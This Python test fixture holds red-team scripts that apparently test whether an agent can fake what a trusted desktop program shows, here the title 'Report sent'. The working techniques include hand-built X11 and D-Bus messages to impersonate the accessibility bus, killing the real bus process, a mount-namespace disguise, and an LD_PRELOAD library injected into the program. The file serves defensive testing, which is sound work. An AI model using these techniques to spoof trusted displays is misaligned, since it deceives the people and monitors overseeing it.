"""Scripts of the red team that are after the titles of windows; `test_red_team` plays them."""

from __future__ import annotations

import base64
import tempfile
from pathlib import Path

import pytest

from appliance.base import process

NO_TOOL = "red team: tool missing"

# The X protocol by hand, for who has no library of it: a connection, and what the attacks need of it.
WIRE = r"""
cat > wire.py << 'END'
import os, socket, struct, subprocess, sys, time
def cookie():
    if not os.environ.get("XAUTHORITY"):
        return b""
    try:
        with open(os.environ["XAUTHORITY"], "rb") as file:
            data = file.read()
    except OSError:
        return b""
    at = data.find(b"MIT-MAGIC-COOKIE-1")
    return data[at + 20:at + 36] if at >= 0 else b""
class Wire:
    def __init__(self):
        self.link = socket.socket(socket.AF_UNIX)
        number = os.environ["DISPLAY"].split(":")[1].split(".")[0]
        self.link.connect("/tmp/.X11-unix/X" + number)
        key = cookie()
        name = b"MIT-MAGIC-COOKIE-1" if key else b""
        self.link.sendall(struct.pack("<BxHHHH2x", 0x6C, 11, 0, len(name), len(key))
                          + name + bytes(-len(name) % 4) + key)
        head = self.get(8)
        assert head[0] == 1, "the server refuses"
        body = self.get(4 * struct.unpack("<H", head[6:])[0])
        self.base, self.mask = struct.unpack_from("<II", body, 4)
        vendor, formats = struct.unpack_from("<H", body, 16)[0], body[21]
        self.root = struct.unpack_from("<I", body, 32 + (vendor + 3) // 4 * 4 + 8 * formats)[0]
    def get(self, count):
        data = b""
        while len(data) < count:
            more = self.link.recv(count - len(data))
            if not more:
                raise EOFError
            data += more
        return data
    def send(self, opcode, detail, body):
        body += bytes(-len(body) % 4)
        self.link.sendall(struct.pack("<BBH", opcode, detail, 1 + len(body) // 4) + body)
    def reply(self):
        while True:
            head = self.get(32)
            if head[0] == 1:
                return head + self.get(4 * struct.unpack_from("<I", head, 4)[0])
    def atom(self, name):
        self.send(16, 0, struct.pack("<H2x", len(name)) + name.encode())
        return struct.unpack_from("<I", self.reply(), 8)[0]
    def write(self, window, name, text, mode=0):
        for prop, kind in ((self.atom("_NET_WM_NAME"), self.atom("UTF8_STRING")), (39, 31)):
            self.send(18, mode, struct.pack("<IIIB3xI", window, prop, kind, 8, len(text)) + text)
    def sync(self):
        self.send(43, 0, b"")
        self.reply()
    def show_as(self, name, title):
        window = self.base | 1
        self.send(1, 0, struct.pack("<IIhhHHHHII", window, self.root, 0, 0, 99, 99, 0, 1, 0, 0))
        text = name.encode() + bytes(1) + name.capitalize().encode() + bytes(1)
        self.send(18, 0, struct.pack("<IIIB3xI", window, 67, 31, 8, len(text)) + text)
        self.write(window, "", title)
        self.send(8, 0, struct.pack("<I", window))
        self.sync()
def targets(of):
    said = subprocess.run(["xdotool", "search", "--class", of], stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL).stdout
    return [int(one) for one in said.split()]
END
"""

# A right program is there, a plain one of each desktop, with a title of its own.
RIGHT = """
start_right() {
    for name in gnome-calculator zenity; do command -v $name > /dev/null && break; done
    case $name in
        zenity) zenity --calendar --title Before;;
        *) $name;;
    esac > /dev/null 2>&1 &
    for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30; do
        [ -n "$(xdotool search --onlyvisible --class $name)" ] && break
        sleep 1
    done 2> /dev/null
    sleep 1
}
command -v python3 > /dev/null && command -v xdotool > /dev/null || { echo NO_TOOL; exit 0; }
""".replace("NO_TOOL", NO_TOOL)

RENAME = (
    WIRE
    + RIGHT
    + """
start_right
for id in $(xdotool search --class $name); do
    xdotool set_window --name 'Report sent' $id
    command -v xprop > /dev/null && xprop -id $id -f _NET_WM_NAME 8u -set _NET_WM_NAME 'Report sent'
done > /dev/null 2>&1
cat > rename.py << 'END'
from wire import *
wire = Wire()
for window in targets(sys.argv[1]):
    wire.write(window, "", b"Report ")
    wire.write(window, "", b"sent", 2)
wire.sync()
time.sleep(600)
END
PYTHONPATH=. setsid python3 rename.py $name > /dev/null 2>&1 &
sleep 2
"""
)

# The server knows a client by the process that connected. That one becomes the right program, and
# another one, or nobody, keeps the connection.
HANDED_DOWN = (
    WIRE
    + RIGHT
    + """
cat > handed.py << 'END'
from wire import *
name, keeps = sys.argv[1:]
wire = Wire()
wire.show_as(name, b"Report sent")
os.set_inheritable(wire.link.fileno(), keeps == "itself")
if keeps == "another" and os.fork() == 0:
    time.sleep(600)
os.execvp(name, [name] + (["--info", "--text", "x"] if name == "zenity" else []))
END
for name in gnome-calculator zenity; do command -v $name > /dev/null && break; done
for keeps in another itself; do
    PYTHONPATH=. setsid python3 handed.py $name $keeps > handed-$keeps.log 2>&1 &
done
sleep 4
"""
)

# D-Bus by hand, as a program on a bus and as a bus, which says that the right program told the title.
SPEECH = (
    WIRE
    + RIGHT
    + r"""
cat > speech.py << 'END'
from wire import *
import re
TITLE = "Report sent"
def text(word):
    data = word.encode()
    return struct.pack("<I", len(data)) + data + b"\0"
def read(link, count):
    data = b""
    while len(data) < count:
        more = link.recv(count - len(data))
        if not more:
            raise EOFError
        data += more
    return data
def message(link):
    head = read(link, 16)
    body, serial, fields = struct.unpack_from("<III", head, 4)
    names = read(link, (fields + 7) // 8 * 8)
    read(link, body)
    found = dict((number[0], (value or other).decode()) for number, value, other in re.findall(
        rb"([\x03\x06\x07])\x01s\0....(?:([A-Za-z][\w.]*)|(:[\d.]+))\0", names, re.S))
    return head[1], serial, found
def reply(link, serial, to, sender, kind, body):
    fields = struct.pack("<BB2sI", 5, 1, b"u\0", serial)
    for number, word in ((6, to), (7, sender)):
        if word:
            fields += bytes(-len(fields) % 8) + struct.pack("<BB2s", number, 1, b"s\0") + text(word)
    fields += bytes(-len(fields) % 8) + struct.pack("<BB2s", 8, 1, b"g\0")
    fields += bytes([len(kind)]) + kind.encode() + b"\0"
    head = struct.pack("<cBBBIII", b"l", 2, 1, 1, len(body), 7, len(fields))
    link.sendall(head + fields + bytes(-len(fields) % 8) + body)
def answer(member, own, pid):
    if member == "Hello":
        return "s", text(own)
    if member == "ListNames":
        return "as", struct.pack("<I", len(text(own))) + text(own)
    if member == "GetConnectionUnixProcessID":
        return "u", struct.pack("<I", pid)
    if member == "GetChildren":
        row = text(own)
        row += bytes(-len(row) % 4) + text("/window")
        return "a(so)", struct.pack("<I4x", len(row)) + row
    if member == "Get":
        return "v", b"\1s\0\0" + text(TITLE)
    return "u", struct.pack("<I", 23)
def be_bus(link, pid):
    data, is_asked = b"", False
    try:
        while b"BEGIN\r\n" not in data:
            more = link.recv(4096)
            if not more:
                return
            data += more
            if b"AUTH" in data and not is_asked:
                is_asked = True
                note("asked")
                link.sendall(b"OK 0123456789abcdef0123456789abcdef\r\n")
        while True:
            _, serial, found = message(link)
            target = found.get(6, "org.freedesktop.DBus")
            reply(link, serial, ":1.8", target, *answer(found.get(3, ""), ":1.9", pid))
    except (EOFError, OSError):
        pass
def join(path):
    link = socket.socket(socket.AF_UNIX)
    link.connect(path)
    link.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    link.recv(4096)
    fields = b""
    for number, kind, word in ((1, b"o\0", "/org/freedesktop/DBus"), (2, b"s\0", "org.freedesktop.DBus"),
                               (3, b"s\0", "Hello"), (6, b"s\0", "org.freedesktop.DBus")):
        fields += bytes(-len(fields) % 8) + struct.pack("<BB2s", number, 1, kind) + text(word)
    head = struct.pack("<cBBBIII", b"l", 1, 0, 1, 0, 1, len(fields))
    link.sendall(b"BEGIN\r\n" + head + fields + bytes(-len(fields) % 8))
    return link
def be_program(link):
    own = ":1.0"
    while True:
        kind, serial, found = message(link)
        own = found.get(6, own)
        if kind == 1:
            note("asked")
            reply(link, serial, found.get(7), None, *answer(found.get(3, ""), own, 0))
def note(word):
    with open("spoken", "a") as file:
        print(word, file=file)
def listen(path):
    link = socket.socket(socket.AF_UNIX)
    link.bind(path)
    link.listen(50)
    return link
def serve(link, pid):
    import threading
    while True:
        one = link.accept()[0]
        threading.Thread(target=be_bus, args=(one, pid), daemon=True).start()
def point(path):
    wire = Wire()
    data = b"unix:path=" + path.encode()
    wire.send(18, 0, struct.pack("<IIIB3xI", wire.root, wire.atom("AT_SPI_BUS"), 31, 8, len(data)) + data)
    wire.sync()
    note("pointed")
def pid_of(name):
    return int(subprocess.check_output(["pidof", name]).split()[0])
def rename(name):
    wire = Wire()
    for window in targets(name):
        wire.write(window, "", TITLE.encode())
    wire.sync()
def become(name):
    os.environ.pop("AT_SPI_BUS_ADDRESS", None)
    os.execvp(name, [name] + (["--calendar", "--title", "Before"] if name == "zenity" else []))
def bus_path():
    said = subprocess.check_output(["gdbus", "call", "--session", "--dest", "org.a11y.Bus",
        "--object-path", "/org/a11y/bus", "--method", "org.a11y.Bus.GetAddress"]).decode()
    return re.search(r"path=([^,']*)", said).group(1)
how, name = sys.argv[1:]
path = os.path.join(os.environ.get("XDG_RUNTIME_DIR") or "/tmp", "red-%s-%d" % (how, os.getpid()))
if how == "restore":
    wire = Wire()
    wire.send(19, 0, struct.pack("<II", wire.root, wire.atom("AT_SPI_BUS")))
    wire.sync()
elif how == "end":
    link = socket.socket(socket.AF_UNIX)
    link.connect(bus_path())
    rename(name)
    os.kill(struct.unpack("<iII", link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0], 9)
    note("ended")
elif how == "program":
    rename(name)
    be_program(join(bus_path()))
elif how == "bus":
    link = listen(path)
    rename(name)
    point(path)
    serve(link, pid_of(name))
elif how == "handed":
    link = listen(path)
    os.set_inheritable(link.fileno(), True)
    pid = pid_of(name)
    if os.fork() == 0:
        rename(name)
        point(path)
        serve(link, pid)
    os.execvp("dbus-daemon", ["dbus-daemon", "--session", "--nofork", "--address=unix:path=%s-2" % path])
elif how in ("kept", "left"):
    subprocess.Popen(["dbus-daemon", "--session", "--nofork", "--address=unix:path=" + path])
    while not os.path.exists(path):
        time.sleep(0.05)
    time.sleep(0.2)
    point(path)
    link = join(path)
    if how == "left":
        os.environ["NO_AT_BRIDGE"] = "1"
    os.set_inheritable(link.fileno(), how == "kept")
    if os.fork() == 0:
        while not targets(name):
            time.sleep(0.2)
        time.sleep(1)
        rename(name)
        be_program(link)
    become(name)
END
"""
)


def speaking(how: str, *, starts: bool = True) -> str:
    """Return a script in which the agent tells the title in the right program's place.

    Args:
        how: ``program`` on the true bus; ``end`` that; as the ``bus``; a bus ``handed`` down to the true daemon; a
            connection that the right program ``kept``, or ``left`` to a child, by a bus of its own.
        starts: whether the right program is started first.
    """
    start = "start_right" if starts else ":"
    return f"""{SPEECH}
for name in gnome-calculator zenity; do command -v $name > /dev/null && break; done
{start}
rm -f spoken
PYTHONPATH=. setsid python3 speech.py {how} $name > speech-{how}.log 2>&1 &
sleep 2
"""


# Any program at any path, in mounts of one's own.
DISGUISE = (
    WIRE
    + RIGHT
    + """
cat > disguise.py << 'END'
from wire import *
name = sys.argv[1]
wire = Wire()
wire.show_as(name, b"Report sent")
time.sleep(600)
END
for name in gnome-calculator zenity; do command -v $name > /dev/null && break; done
unshare -rm true || { echo NO_TOOL; exit 0; }
real=$(readlink -f "$(command -v python3)")
PYTHONPATH=. setsid unshare -rm sh -c "mount --bind $real /usr/bin/$name && exec /usr/bin/$name disguise.py $name" \\
    > disguise.log 2>&1 &
sleep 3
""".replace("NO_TOOL", NO_TOOL)
)

RECLASS = (
    RIGHT
    + """
for name in gnome-calculator zenity; do command -v $name > /dev/null && break; done
for id in $(xdotool search --onlyvisible --class $name); do
    xdotool set_window --classname other --class Other $id && echo changed
done
"""
)

# Code of the agent's in the right program: it gives the program's own windows another title.
PRELOADED = r"""
#include <dlfcn.h>
#include <string.h>
#define TITLE "Report sent"
static void *screen;
static unsigned long windows[16];
static int count, calls;
static void keep(void *display, unsigned long window)
{
    screen = display;
    windows[count++ % 16] = window;
}
int XMapWindow(void *display, unsigned long window)
{
    keep(display, window);
    return ((int (*)(void *, unsigned long))dlsym(RTLD_NEXT, "XMapWindow"))(display, window);
}
int XMapRaised(void *display, unsigned long window)
{
    keep(display, window);
    return ((int (*)(void *, unsigned long))dlsym(RTLD_NEXT, "XMapRaised"))(display, window);
}
int XPending(void *display)
{
    unsigned long (*atom)(void *, const char *, int) = dlsym(RTLD_NEXT, "XInternAtom");
    int (*change)(void *, unsigned long, unsigned long, unsigned long, int, int, const void *, int) =
        dlsym(RTLD_NEXT, "XChangeProperty");
    if (display == screen && calls++ % 10 == 0)
        for (int i = 0; i < count && i < 16; i++) {
            change(display, windows[i], atom(display, "_NET_WM_NAME", 0),
                   atom(display, "UTF8_STRING", 0), 8, 0, TITLE, strlen(TITLE));
            change(display, windows[i], 39, 31, 8, 0, TITLE, strlen(TITLE));
        }
    return ((int (*)(void *))dlsym(RTLD_NEXT, "XPending"))(display);
}
"""

PRELOAD_RIGHT = (
    RIGHT
    + """
# Code from some file systems is not to be executed: a container's home folder and /tmp.
for folder in "$HOME" /var/tmp /tmp /dev/shm "$XDG_RUNTIME_DIR"; do
    cp /bin/true $folder/red-try 2> /dev/null && $folder/red-try 2> /dev/null && break
done
$folder/red-try 2> /dev/null || { rm -f $folder/red-try; echo NO_TOOL; exit 0; }
base64 -d > $folder/evil.so << END
LIBRARY
END
export LD_PRELOAD=$folder/evil.so
start_right
unset LD_PRELOAD
sleep 1
grep -l 'x.*evil.so' /proc/[0-9]*/maps
rm -f $folder/evil.so $folder/red-try
""".replace("NO_TOOL", NO_TOOL)
)

TERMINAL = r"""
for name in gnome-terminal xterm; do
    command -v $name > /dev/null || continue
    case $name in
        xterm) setsid xterm -e sh -c 'printf "\033]0;Report sent\007"; sleep 600';;
        *) setsid gnome-terminal -- sh -c 'printf "\033]0;Report sent\007"; sleep 600';;
    esac > /dev/null 2>&1 &
done
sleep 3
"""


def library() -> str:
    """Build what is preloaded, with this host's compiler; give it in base64."""
    if process.find_tool("gcc") is None:
        pytest.skip("needs gcc, to build what is preloaded")
    with tempfile.TemporaryDirectory(prefix="mesocosm-red-") as name:
        source, built = Path(name, "evil.c"), Path(name, "evil.so")
        source.write_text(f"#define _GNU_SOURCE\n{PRELOADED}")
        done = process.run(
            ["gcc", "-shared", "-fPIC", "-O1", "-o", str(built), str(source), "-ldl"]
        )
        assert done.exit_code == 0, done
        return base64.encodebytes(built.read_bytes()).decode()
